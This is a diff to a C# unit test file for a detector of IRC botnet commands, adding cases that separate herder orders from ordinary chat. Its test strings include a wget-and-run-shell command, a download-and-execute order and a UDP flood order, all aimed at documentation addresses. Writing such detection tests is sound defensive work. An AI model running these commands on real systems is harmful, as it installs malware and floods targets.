@@ -74,6 +74,8 @@ public class IndicatorPeekTests
     [Theory]
     [InlineData(":boss!x@y PRIVMSG #c :!* SH wget http://203.0.113.9/a;sh a\r\n", true)]
     [InlineData(":boss!x@y PRIVMSG #c :.download http://[2001:db8::9]/a.exe c:\\a.exe 1\r\n", true)]
+    [InlineData(":boss!x@y PRIVMSG #c :!bot @udpflood 198.18.4.4 1000 30\r\n", true)]
+    [InlineData(":ann!x@y PRIVMSG #c :!whois @bob 192.0.2.9\r\n", false)]
     [InlineData(":ann!x@y PRIVMSG #c :!title http://192.0.2.9/photos\r\n", false)]
     [InlineData(":ann!x@y PRIVMSG #c :get http://192.0.2.9/putty.exe and run it\r\n", false)]
     public void A_herders_order_to_load_a_program_is_told_from_a_link(string line, bool order) =>
